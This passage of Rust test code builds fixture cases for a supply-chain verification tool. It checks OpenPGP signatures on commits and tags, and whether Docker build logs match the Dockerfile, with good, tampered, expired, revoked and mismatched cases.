    let path = std::path::Path::new(super::super::FIXTURES).join("inputs/openpgp").join(name);
    std::fs::read_to_string(path).unwrap()
}

/// A policy with a signer who has this certificate; the expected answer needs the feature `openpgp`.
fn openpgp_policy(case: Case, certificate: &str) -> Case {
    let policy =
        with("[[signers]]\nname = \"Ada\"\nopenpgp = \"ada.asc\"\n\n[levels]\nsource-signature = \"require\"\n");
    case.file("key.pem", Named::Server.public_pem())
        .file("ada.asc", openpgp_file(certificate))
        .policy(policy)
        .feature("openpgp")
}

fn openpgp() -> Vec<Case> {
    let fails = |name: &str, about| Case::fails(name, "source-signature", about);
    let commit = |case: Case, certificate: &str, signature: &'static str| {
        signed_commit(openpgp_policy(case, certificate), move |_| openpgp_file(signature))
    };
    let tag = |case: Case, text: fn(String) -> String| {
        let head = inputs::head_commit();
        let tag = text(format!("object {head}\ntype commit\ntag v2.0\ntagger {WHO}\n\nVersion 2.0\n"));
        openpgp_policy(case, "ada.asc").inner(move |entries| {
            let id = add_object(entries, "tag", format!("{tag}{}", openpgp_file("tag.asc")).as_bytes());
            entries.push(Entry::file("git/wallet/.git/refs/tags/v2.0", format!("{id}\n")));
        })
    };
    vec![
        commit(
            Case::good("good-signed-openpgp", "A signer's OpenPGP subkey signed HEAD's commit."),
            "ada.asc",
            "commit.asc",
        )
        .expect("source-signature", "pass"),
        tag(Case::good("good-signed-openpgp-tag", "A signer's OpenPGP key signed a tag at HEAD."), |text| text)
            .expect("source-signature", "pass"),
        tag(fails("signed-openpgp-tag-altered", "A tag's message is not the one that was signed."), |text| {
            text.replace("Version 2.0\n", "Version 2.1\n")
        }),
        commit(
            fails("signed-openpgp-other-key", "A different OpenPGP key signed HEAD's commit."),
            "ada.asc",
            "commit-eve.asc",
        ),
        commit(fails("signed-openpgp-expired", "The OpenPGP signature has expired."), "ada.asc", "commit-expired.asc"),
        commit(
            fails("signed-openpgp-revoked", "The OpenPGP key was compromised later."),
            "ada-revoked.asc",
            "commit.asc",
        ),
        commit(fails("signed-openpgp-other-bytes", "The OpenPGP signature is that of a tag."), "ada.asc", "tag.asc"),
        openpgp_policy(
            Case::error("signer-openpgp-malformed", 2, "key", "A signer's OpenPGP file contains a signature."),
            "tag.asc",
        ),
    ]
}

fn dockerfile() -> Vec<Case> {
    let policy = |case: Case, expect: &str| {
        let policy = with(&format!("[expect]\n{expect}\n[levels]\nsource-dockerfile = \"require\"\n"));
        case.file("key.pem", Named::Server.public_pem()).policy(policy)
    };
    let fails = |name: &str, about| policy(Case::fails(name, "source-dockerfile", about), "");
    let digest = "5a1c1f3b7d0f0c6e4d9a2b8e7f6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c";
    vec![
        policy(
            Case::good("good-dockerfile", "The log's steps are those of the Dockerfile."),
            "dockerfile = \"./Dockerfile\"\n",
        )
        .expect("source-dockerfile", "pass"),
        policy(
            Case::good("good-dockerfile-base-by-digest", "Content trust replaced the base image's tag with a digest."),
            "",
        )
        .log(move |text| {
            text.replace("FROM golang:1.24-bookworm AS build", &format!("FROM golang@sha256:{digest} AS build"))
        })
        .expect("source-dockerfile", "pass"),
        Case::good(
            "good-dockerfile-fetches",
            "Steps of every kind that uses input from outside the commit: all inputs are listed, and unknown ones are marked.",
        )
        .log(|text| {
            let text = text.replace("RUN ./build.sh", "RUN --mount=type=bind,from=busybox:1,target=/b npm ci && sudo frobnicate && ./gradlew build");
            let text = text.replace("EXPOSE 8443", "ADD [\"a\", \"ssh://git@example.com/b.git\", \"/srv/\"]");
            text.replace("FROM debian:bookworm-slim", "FROM ${BASE}")
        })
        .expect("source-dockerfile", "fail"),
        fails("dockerfile-other-step", "A step in the log is not in the Dockerfile.")
            .log(|text| text.replace("RUN ./build.sh", "RUN ./build.sh --fast")),
        fails("dockerfile-other-base", "A base image in the log is not in the Dockerfile.")
            .log(|text| text.replace("FROM debian:bookworm-slim", "FROM debian:trixie-slim")),
        fails("dockerfile-step-missing", "A step is missing from the log.")
            .log(|text| super::without(&text, &["Step 8/9"])),
        fails("dockerfile-step-twice", "A step is duplicated in the log.")
            .log(|text| super::insert_before(&text, "Step 8/9", "run: Step 7/9 : COPY web /srv/web")),
        policy(
            Case::fails("dockerfile-missing", "source-dockerfile", "The policy's Dockerfile is not in the commit."),
            "dockerfile = \"docker/Dockerfile\"\n",
        ),
        policy(Case::rejected("dockerfile-without-steps", "The log shows no steps."), "")
            .log(|text| super::without(&text, &["Step "]))
            .expect("source-dockerfile", "unknown"),
    ]
}
